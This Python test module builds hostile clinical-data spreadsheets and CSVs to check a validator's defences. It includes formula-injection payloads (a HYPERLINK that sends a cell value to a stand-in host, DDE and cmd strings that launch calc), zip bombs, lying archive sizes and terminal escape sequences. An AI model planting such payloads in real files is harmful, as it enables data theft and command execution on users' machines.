"""A corpus of hostile and unusual CRF files, built in a test's tmp folder.

Thought up as an attacker and as a tired coordinator at 2 a.m. would make them:
a stray value in Excel's last cell, zip bombs (scaled down so CI stays fast but
still past the limits), archives that lie about their sizes, FIFOs, symlink loops,
devices and folders named .xlsx, Mac (1904) workbooks, CSVs in cp1252, Big5 and
UTF-16, IDs formatted ``000000``, a header far down, formulas without results, a
hidden sheet, formula injection, control characters, very long names, a huge CSV
field and ±1e308.

:func:`build_corpus` returns :class:`Case` records: the path and what must happen
(``exit`` codes allowed for every door, text that must appear in the answer).
"""
from __future__ import annotations

import datetime as dt
import io
import os
import struct
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

HEADERS = ["patient_id", "sex", "birth_date", "admission_date", "diagnosis_date", "her2_ihc",
           "er_percent", "pr_percent", "m_stage", "last_followup_date", "vital_status"]

#: Values an attacker plants in text cells; none may come out as a live formula.
INJECTIONS = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "=WEBSERVICE(\"x\")",
              "=DDE(\"cmd\";\"/C calc\";\"x\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
              "\t=1+1", "\r=1+1", "=1+1"]


@dataclass
class Case:
    name: str
    path: Path
    exit: tuple[int, ...] = (0, 1)          # allowed exit codes for validate/cohort/report
    says: str = ""                          # text the answer (stdout+stderr) must contain
    slow: bool = False                      # heavy: run apart from the light files (memory)
    extra: dict = field(default_factory=dict)


def _row(i: int, **over) -> list:
    base = {"patient_id": f"P{i:04d}", "sex": "F", "birth_date": dt.date(1965, 3, 1),
            "admission_date": dt.date(2016, 5, 2), "diagnosis_date": dt.date(2016, 4, 20),
            "her2_ihc": "3+", "er_percent": 80, "pr_percent": 30, "m_stage": "M1",
            "last_followup_date": dt.date(2021, 6, 1), "vital_status": "alive"}
    base.update(over)
    return [base[h] for h in HEADERS]


def _workbook(rows: list[list], title: str = "Patients") -> openpyxl.Workbook:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = title
    for r in rows:
        ws.append(r)
    return wb


def _valid_rows(n: int = 6) -> list[list]:
    return [HEADERS] + [_row(i) for i in range(1, n + 1)]


def _rezip(src: bytes, replace: dict[str, bytes] | None = None,
           add: dict[str, bytes] | None = None, level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zout:
        for item in zin.infolist():
            data = (replace or {}).get(item.filename, zin.read(item.filename))
            zout.writestr(item.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    return out.getvalue()


def _xlsx_bytes(wb: openpyxl.Workbook) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _patch_central_size(data: bytes, member: str, size: int) -> bytes:
    """Make the central directory declare ``size`` uncompressed bytes for ``member``."""
    name = member.encode()
    buf = bytearray(data)
    pos = 0
    while True:
        pos = data.find(b"PK\x01\x02", pos)
        if pos < 0:
            raise ValueError(member)
        n = struct.unpack_from("<H", data, pos + 28)[0]
        if data[pos + 46:pos + 46 + n] == name:
            struct.pack_into("<I", buf, pos + 24, size)
            return bytes(buf)
        pos += 4


def build_corpus(root: Path) -> list[Case]:
    root.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def add(case: Case) -> Case:
        cases.append(case)
        return case

    # -- a clean reference file
    p = root / "clean.xlsx"
    _workbook(_valid_rows()).save(p)
    add(Case("clean", p, exit=(0,)))

    # -- Ctrl+End and a keystroke: one value in XFD1048576
    p = root / "stray_last_cell.xlsx"
    wb = _workbook(_valid_rows())
    wb.active["XFD1048576"] = "x"
    wb.save(p)
    add(Case("stray_last_cell", p, exit=(0,), says="column XFD", slow=True))

    # -- the same workbook saved with an .xls name (some exporters do): same door, same answer
    p = root / "stray_last_cell_named.xls"
    wb.save(p)
    add(Case("stray_as_xls", p, exit=(0,), says="column XFD", slow=True))

    # -- a stray value far down column A: it is a (bad) patient row, read and reported
    p = root / "stray_far_row.xlsx"
    wb = _workbook(_valid_rows())
    wb.active["A1048576"] = "oops"
    wb.save(p)
    add(Case("stray_far_row", p, exit=(0,), slow=True))

    # -- zip bomb: one sheet of whitespace inflating 40 MB at a ratio of about 1000
    clean = _xlsx_bytes(_workbook(_valid_rows()))
    with zipfile.ZipFile(io.BytesIO(clean)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    padded = sheet.replace(b"<sheetData>", b"<sheetData>" + b" " * (40 << 20), 1)
    p = root / "bomb_ratio.xlsx"
    p.write_bytes(_rezip(clean, {"xl/worksheets/sheet1.xml": padded}, level=9))
    add(Case("bomb_ratio", p, exit=(1,), says="expands", slow=True))

    # -- an archive that declares 3 GB (central directory) for a small sheet
    p = root / "bomb_declared.xlsx"
    p.write_bytes(_patch_central_size(clean, "xl/worksheets/sheet1.xml", 3 << 30))
    add(Case("bomb_declared", p, exit=(1,), says="expands to"))

    # -- an archive whose sheet inflates to more than it declares
    p = root / "lying_size.xlsx"
    p.write_bytes(_patch_central_size(clean, "xl/worksheets/sheet1.xml", 100))
    add(Case("lying_size", p, exit=(1,), says="damaged"))

    # -- too many parts
    p = root / "many_members.xlsx"
    p.write_bytes(_rezip(clean, add={f"xl/media/x{i}.bin": b"" for i in range(10_050)}, level=1))
    add(Case("many_members", p, exit=(1,), says="parts"))

    # -- not regular files
    fifo = root / "pipe.xlsx"
    os.mkfifo(fifo)
    add(Case("fifo", fifo, exit=(1,), says="pipe"))
    loop = root / "loop.xlsx"
    os.symlink(loop.name, loop)
    add(Case("symlink_loop", loop, exit=(1,), says="loop"))
    dangling = root / "gone.xlsx"
    os.symlink("nowhere.xlsx", dangling)
    add(Case("dangling_link", dangling, exit=(1,), says="no longer exists"))
    folder = root / "folder.xlsx"
    folder.mkdir()
    add(Case("folder", folder, exit=(1,), says="folder"))
    device = root / "zero.csv"
    os.symlink("/dev/zero", device)
    add(Case("device", device, exit=(1,), says="device"))

    # -- a Mac workbook: 1904 date system, dates as date cells and as plain numbers
    p = root / "mac_1904.xlsx"
    wb = _workbook([HEADERS])
    wb.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
    ws = wb.active
    for i in range(1, 5):
        r = _row(i)
        # 2016-04-20 is serial 41018 in the 1904 system (42480 in the 1900 one).
        r[HEADERS.index("diagnosis_date")] = 41018
        ws.append(r)
    wb.save(p)
    add(Case("mac_1904", p, exit=(0,), extra={"diagnosis_date": dt.date(2016, 4, 20)}))

    # -- CSV encodings
    text = ",".join(HEADERS) + "\n" + "\n".join(
        ",".join(str(v) for v in _row(i, patient_id=f"Zoë{i}")) for i in range(1, 4)) + "\n"
    p = root / "western.csv"
    p.write_bytes(text.encode("cp1252"))
    add(Case("cp1252_csv", p, exit=(0,), says="Windows-1252", extra={"id": "Zoë1"}))
    chinese = text.replace("Zoë", "患者")
    p = root / "simplified.csv"
    p.write_bytes(chinese.encode("gb18030"))
    add(Case("gb18030_csv", p, exit=(0,), extra={"id": "患者1"}))
    p = root / "traditional.csv"
    p.write_bytes(text.replace("Zoë", "乳癌病人資料").encode("big5"))
    add(Case("big5_csv", p, exit=(1,), says="Big5"))
    p = root / "utf16.csv"
    p.write_bytes(text.encode("utf-16"))
    add(Case("utf16_bom_csv", p, exit=(0,), extra={"id": "Zoë1"}))
    p = root / "utf16le.tsv"
    p.write_bytes(text.replace(",", "\t").encode("utf-16-le"))
    add(Case("utf16_nobom_tsv", p, exit=(0,), extra={"id": "Zoë1"}))

    # -- IDs stored as numbers and shown as 000001
    p = root / "padded_ids.xlsx"
    wb = _workbook([HEADERS] + [_row(i, patient_id=i) for i in range(1, 5)])
    for r in range(2, 6):
        wb.active.cell(r, 1).number_format = "000000"
    wb.save(p)
    add(Case("padded_ids", p, exit=(0,), extra={"id": "000001"}))

    # -- a title block pushes the header down to row 20; one to row 260 is past the search
    p = root / "header_row20.xlsx"
    _workbook([["Study export"]] + [[]] * 18 + _valid_rows()).save(p)
    add(Case("header_row20", p, exit=(0,)))
    p = root / "header_row260.xlsx"
    _workbook([[f"note {i}"] for i in range(259)] + _valid_rows()).save(p)
    add(Case("header_row260", p, exit=(1,), says="first 200 rows"))

    # -- written by a program that does not calculate: formulas, no saved results
    p = root / "formulas.xlsx"
    rows = [HEADERS] + [[f'="P"&{i}', '="F"'] + [None] * (len(HEADERS) - 2) for i in range(1, 4)]
    _workbook(rows).save(p)
    add(Case("formulas_no_cache", p, exit=(1,), says="saved result"))

    # -- a hidden sheet holding patients
    p = root / "hidden.xlsx"
    wb = _workbook(_valid_rows())
    ws2 = wb.create_sheet("Old patients")
    for r in [HEADERS] + [_row(i) for i in range(50, 53)]:
        ws2.append(r)
    ws2.sheet_state = "hidden"
    wb.save(p)
    add(Case("hidden_sheet", p, exit=(0,), says="hidden"))

    # -- formula injection in text cells (IDs, codes), and in the file name
    p = root / "injection.xlsx"
    wb = _workbook([HEADERS])
    for k, bad in enumerate(INJECTIONS, 1):
        wb.active.append(_row(k, sex=bad, her2_ihc=bad))
        wb.active.append(_row(100 + k, patient_id=bad))
    for row in wb.active.iter_rows(min_row=2):
        for c in row:
            if isinstance(c.value, str) and c.value.lstrip().startswith("="):
                c.data_type = "s"           # stored as text, as a coordinator typed it
    wb.save(p)
    add(Case("injection", p, exit=(0,)))
    p = root / "=1+1.xlsx"
    _workbook(_valid_rows()).save(p)
    add(Case("formula_name", p, exit=(0,)))

    # -- control characters in IDs (a CSV: Excel cannot store most of them)
    p = root / "controls.csv"
    rows = [",".join(HEADERS)] + [",".join(str(v) for v in _row(i, patient_id=pid)) for i, pid in
                                  enumerate(["P\x1b[31mRED", "P\x07BEL", "P\x1b]0;pwned\x07", "P\u202eLTR"], 1)]
    rows.append(",".join(str(v) for v in _row(9, sex="\x1b[2J")))
    p.write_bytes(("\n".join(rows) + "\n").encode("utf-8"))
    add(Case("control_chars", p, exit=(0,)))

    # -- a very long name: the file itself is fine, its side file is past the name limit
    p = root / ("x" * 240 + ".xlsx")
    _workbook(_valid_rows()).save(p)
    add(Case("long_name", p, exit=(0, 1)))
    p = root / "escape\x1b[31m in name.xlsx"
    _workbook(_valid_rows()).save(p)
    add(Case("control_in_name", p, exit=(0,)))
    p = root / "odd name ,;'$`(1).xlsx"
    _workbook(_valid_rows()).save(p)
    add(Case("odd_name", p, exit=(0,)))

    # -- a CSV with an unclosed quote: one field of a million characters
    p = root / "huge_field.csv"
    p.write_text(",".join(HEADERS) + "\nP1,\"F" + "a" * 1_000_000 + "\n", encoding="utf-8")
    add(Case("huge_field_csv", p, exit=(1,), says="quote"))

    # -- extreme numbers
    p = root / "extremes.xlsx"
    _workbook([HEADERS] + [_row(1, er_percent=1e308), _row(2, er_percent=-1e308),
                           _row(3, pr_percent=1e-300)]).save(p)
    add(Case("extremes", p, exit=(0,), says="ER 1e+308"))

    # -- the classics
    p = root / "empty.xlsx"
    p.write_bytes(b"")
    add(Case("empty", p, exit=(1,), says="empty"))
    p = root / "text_named.xlsx"
    p.write_text("patient_id,sex\nP1,F\n")
    add(Case("not_a_zip", p, exit=(1,), says="not an Excel workbook"))
    p = root / "web_page.xls"
    p.write_text("<html><table><tr><td>patient_id</td></tr></table></html>")
    add(Case("html_xls", p, exit=(1,), says="not a real Excel workbook"))
    p = root / "notes.tsv"
    p.write_text("\t".join(HEADERS) + "\n" + "\n".join(
        "\t".join(str(v) for v in _row(i)) for i in range(1, 4)) + "\n", encoding="utf-8")
    add(Case("tsv", p, exit=(0,)))
    return cases
